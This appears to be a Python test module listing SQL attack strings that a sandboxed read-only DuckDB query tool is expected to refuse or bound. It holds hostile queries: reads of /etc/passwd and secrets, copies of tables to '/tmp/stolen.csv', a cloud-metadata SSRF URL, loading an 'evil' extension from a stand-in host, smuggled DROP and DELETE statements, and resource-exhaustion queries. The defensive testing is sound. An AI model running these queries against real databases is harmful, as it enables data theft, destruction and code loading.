"""The attack catalogue: attacks of each family, each with what must happen.

"refuse": no result at all (a refusal or a stopped query, a one-line message).
"bounded": a result within the row cap and byte budget (or a refusal at a limit).
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    family: str
    sql: str
    expect: str = "refuse"
    from_issue: bool = False

    @property
    def id(self) -> str:
        return f"{self.family}:{self.sql[:60]}"


def _family(name: str, sqls: list[str], expect: str = "refuse") -> list[Attack]:
    return [Attack(name, sql, expect) for sql in sqls]


ISSUE = [
    Attack("writes", "EXPLAIN ANALYZE CREATE TEMP TABLE t AS SELECT * FROM runs", from_issue=True),
    Attack("writes", "WITH d AS (DELETE FROM runs RETURNING *) SELECT * FROM d", from_issue=True),
    Attack("quoting", "SELECT $$'$$ AS a, * FROM read_text('/etc/passwd') -- '", from_issue=True),
    Attack("files", "SELECT * FROM read_duckdb('/etc/passwd')", from_issue=True),
    Attack("files", "SELECT * FROM read_single_csv_file('/etc/passwd')", from_issue=True),
    Attack("files", "SELECT * FROM parquet_full_metadata('/etc/passwd')", from_issue=True),
    Attack("files", "SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')')", from_issue=True),
    Attack("files", "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))", from_issue=True),
    Attack("writes", "CREATE TEMP TABLE t AS SELECT 1", from_issue=True),
    Attack("writes", "CHECKPOINT", from_issue=True),
    Attack("writes", "VACUUM", from_issue=True),
    Attack("writes", "BEGIN TRANSACTION", from_issue=True),
    Attack("multi-statement", "SELECT 1; SELECT 2", from_issue=True),
    Attack("bytes", "SELECT repeat('a',100000) AS ca, repeat('b',100000) AS cb, repeat('c',100000) AS cc, "
           "repeat('d',100000) AS cd FROM range(20000)", "bounded", from_issue=True),
    # DuckDB plans this as a hash join: on an idle machine it can finish inside the limit, so it is either
    # interrupted or a one-row result; the non-equi join just below always runs past any limit.
    Attack("time", "SELECT count(*) FROM range(100000000) a, range(100000) b WHERE a.range % 7 = b.range",
           "bounded", from_issue=True),
    Attack("time", "SELECT count(*) FROM range(100000000) a, range(100000) b WHERE a.range * b.range = -1",
           "refuse"),
    Attack("temp disk", "SELECT DISTINCT (i * 7919)::VARCHAR || repeat('x', 60) AS s FROM range(30000000) t(i) "
           "ORDER BY s", "bounded", from_issue=True),
]

WRITES = _family("writes", [
    "INSERT INTO runs (run_id) VALUES ('x')", "INSERT OR REPLACE INTO runs (run_id) VALUES ('x')",
    "UPDATE runs SET model = 'x'", "DELETE FROM runs", "DELETE FROM trajectories WHERE true",
    "DROP TABLE runs", "DROP VIEW run_summary", "DROP TABLE IF EXISTS steps CASCADE",
    "CREATE TABLE t AS SELECT 1", "CREATE OR REPLACE VIEW run_summary AS SELECT 1",
    "CREATE MACRO m(x) AS x + 1", "CREATE SEQUENCE s", "CREATE SCHEMA s", "CREATE INDEX i ON runs(run_id)",
    "CREATE TYPE mood AS ENUM ('a')", "ALTER TABLE runs ADD COLUMN x INT", "ALTER TABLE runs RENAME TO r",
    "ALTER VIEW run_summary RENAME TO x", "TRUNCATE runs", "COMMENT ON TABLE runs IS 'x'",
    "CREATE TEMP TABLE t (a INT)", "CREATE TEMP VIEW v AS SELECT 1", "CREATE TEMP MACRO m() AS 1",
    "COMMIT", "ROLLBACK", "ABORT", "START TRANSACTION", "ANALYZE", "DETACH wh", "USE memory",
    "PREPARE p AS SELECT 1", "EXECUTE p", "DEALLOCATE p", "CALL pragma_version()",
    "WITH i AS (INSERT INTO runs (run_id) VALUES ('x') RETURNING *) SELECT * FROM i",
    "WITH u AS (UPDATE runs SET model = 'x' RETURNING *) SELECT * FROM u",
    "SELECT * FROM (WITH d AS (DELETE FROM runs RETURNING *) SELECT * FROM d)",
    "EXPLAIN DELETE FROM runs", "EXPLAIN SELECT 1", "EXPLAIN ANALYZE SELECT 1",
    "MERGE INTO runs USING (SELECT 'x' AS run_id) s ON runs.run_id = s.run_id WHEN MATCHED THEN DELETE",
    "INSERT INTO runs BY NAME SELECT 'x' AS run_id", "UPSERT INTO runs (run_id) VALUES ('x')",
    "PIVOT runs ON dataset USING count(*)",
])

FILES = _family("files", [
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_csv_auto('/etc/passwd')",
    "SELECT * FROM read_parquet('/tmp/x.parquet')", "SELECT * FROM parquet_scan('/tmp/x.parquet')",
    "SELECT * FROM parquet_metadata('/tmp/x.parquet')", "SELECT * FROM parquet_schema('/tmp/x.parquet')",
    "SELECT * FROM parquet_kv_metadata('/tmp/x.parquet')", "SELECT * FROM parquet_file_metadata('/tmp/x')",
    "SELECT * FROM read_json('/etc/passwd')", "SELECT * FROM read_json_auto('/etc/passwd')",
    "SELECT * FROM read_json_objects('/etc/passwd')", "SELECT * FROM read_ndjson('/etc/passwd')",
    "SELECT * FROM read_ndjson_objects('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/passwd')", "SELECT * FROM glob('/etc/*')", "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM '/etc/passwd'", "SELECT * FROM '/etc/hostname' AS h", "FROM '/etc/passwd'",
    "SELECT * FROM runs, '/etc/passwd'", "SELECT * FROM runs JOIN read_text('/etc/passwd') ON true",
    "SELECT (SELECT content FROM read_text('/etc/passwd'))", "SELECT * FROM runs WHERE run_id IN "
    "(SELECT content FROM read_text('/etc/passwd'))", "WITH f AS (SELECT * FROM read_text('/etc/passwd')) "
    "SELECT * FROM f", "SELECT * FROM runs, LATERAL (SELECT * FROM read_text('/etc/passwd'))",
    "SELECT 1 UNION ALL SELECT size FROM read_blob('/etc/passwd')", "DESCRIBE SELECT * FROM read_text('/etc/passwd')",
    "SUMMARIZE SELECT * FROM read_text('/etc/passwd')", "SELECT getenv('HOME')", "SELECT * FROM query_table('runs')",
    "COPY runs TO '/tmp/stolen.csv'", "COPY (SELECT * FROM runs) TO '/tmp/stolen.parquet' (FORMAT parquet)",
    "COPY runs FROM '/etc/passwd'", "EXPORT DATABASE '/tmp/dump'", "IMPORT DATABASE '/tmp/dump'",
    "ATTACH '/tmp/other.duckdb' AS other", "ATTACH ':memory:' AS m", "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM read_xlsx('/tmp/x.xlsx')", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')",
])

NETWORK = _family("network", [
    "SELECT * FROM read_csv('https://example.com/x.csv')", "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "SELECT * FROM 'https://example.com/x.parquet'", "SELECT * FROM read_json('http://127.0.0.1:9/x')",
    "SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')", "ATTACH 'https://example.com/x.duckdb'",
    "SELECT * FROM iceberg_scan('s3://bucket/t')", "SELECT * FROM delta_scan('s3://bucket/t')",
    "SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 't')", "SELECT * FROM mysql_scan('x', 'y')",
    "SELECT * FROM 'gs://bucket/x.csv'", "SELECT * FROM read_blob('hf://datasets/x/y')",
])

EXTENSIONS = _family("extensions", [
    "INSTALL httpfs", "LOAD httpfs", "FORCE INSTALL httpfs", "INSTALL h3 FROM community", "UPDATE EXTENSIONS",
    "LOAD '/tmp/evil.duckdb_extension'", "SELECT * FROM duckdb_extensions()", "INSTALL 'https://x/evil.ext'",
])

SETTINGS = _family("settings", [
    "SET enable_external_access = true", "SET memory_limit = '100GB'", "SET threads = 64",
    "SET temp_directory = '/tmp'", "SET max_temp_directory_size = '1TB'", "SET lock_configuration = false",
    "RESET ALL", "RESET memory_limit", "PRAGMA memory_limit = '10GB'", "PRAGMA enable_profiling",
    "PRAGMA threads = 64", "SET GLOBAL enable_external_access = true", "SET SESSION threads = 1",
    "SET autoinstall_known_extensions = true", "SET allowed_paths = ['/']", "CALL pragma_show('runs')",
])

MULTI = _family("multi-statement", [
    "SELECT 1; DROP TABLE runs", "SELECT 1;;SELECT 2", ";SELECT 1; DELETE FROM runs",
    "SELECT 1 /* ; */; DELETE FROM runs",
    "SELECT 1\n;\nDELETE FROM runs", "BEGIN; DELETE FROM runs; COMMIT", "SELECT 1; ATTACH '/tmp/x.duckdb'",
    "SELECT 1; SET enable_external_access = true", "SELECT 'a;b'; SELECT 2", "SELECT 1; -- only a comment\nSELECT 2",
])

QUOTING = _family("quoting", [
    "/* nested /* comment */ */ DELETE FROM runs", "SELECT 1 -- \n; DELETE FROM runs",
    "SeLeCt * FrOm ReAd_TeXt('/etc/passwd')", 'SELECT * FROM "read_text"(\'/etc/passwd\')',
    "SELECT * FROM system.main.read_text('/etc/passwd')", "SELECT * FROM main.read_text('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd') --ｘ", "SELECT 1；DROP TABLE runs", "DEL\u200bETE FROM runs",
    "SELECT '\x00'", "SELECT $tag$; DROP TABLE runs; $tag$ AS s, * FROM read_text('/etc/passwd')",
    "SELECT E'\\x27' || (SELECT content FROM read_text('/etc/passwd'))", "ЅELECT * FROM runs",
    "SELECT * FROM read_text(('/etc/' || 'passwd'))", "SELECT * FROM read_text(['/etc/passwd'])",
    "/*+ hint */ INSERT INTO runs (run_id) VALUES ('x')", "(DELETE FROM runs)", "VALUES (1); DELETE FROM runs",
    "WITH x AS MATERIALIZED (SELECT * FROM read_text('/etc/passwd')) SELECT 1",
    "SELECT 1 WHERE 1 = (SELECT 1 FROM glob('/*'))",
])
QUOTING_BOUNDED = _family("quoting", [
    "SELECT 'a'';DROP TABLE runs;--' AS s", "SELECT $$read_text('/etc/passwd')$$ AS s",
    "SELECT 'read_csv(' AS x -- glob(\n", "SELECT \"run_id\" AS \"DROP TABLE runs\" FROM runs",
    "SELECT '\u202eDELETE' AS s", "SELECT count(*) AS n FROM runs /* DELETE FROM runs */",
], "bounded")

RESOURCES = [
    Attack("rows", "SELECT * FROM range(100000000)", "bounded"),
    Attack("rows", "SELECT a.range, b.range FROM range(100000) a, range(100000) b", "bounded"),
    Attack("bytes", "SELECT repeat('x', 10000000) AS s FROM range(100)", "bounded"),
    Attack("bytes", "SELECT list(i) AS l FROM range(10000000) t(i)", "bounded"),
    Attack("time", "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t"),
    Attack("time", "SELECT * FROM range(10) ORDER BY (SELECT count(*) FROM range(100000000000))"),
    Attack("memory", "SELECT repeat('a', 1000000000) AS x", "bounded"),
    Attack("memory", "SELECT string_agg(repeat('a', 1000), ',') FROM range(5000000)", "bounded"),
    Attack("memory", "SELECT list(i) FROM range(500000000) t(i)", "bounded"),
    Attack("temp disk", "SELECT i, repeat('y', 200) AS s FROM range(20000000) t(i) ORDER BY s DESC, i", "bounded"),
]

ALL = [*ISSUE, *WRITES, *FILES, *NETWORK, *EXTENSIONS, *SETTINGS, *MULTI, *QUOTING, *QUOTING_BOUNDED, *RESOURCES]
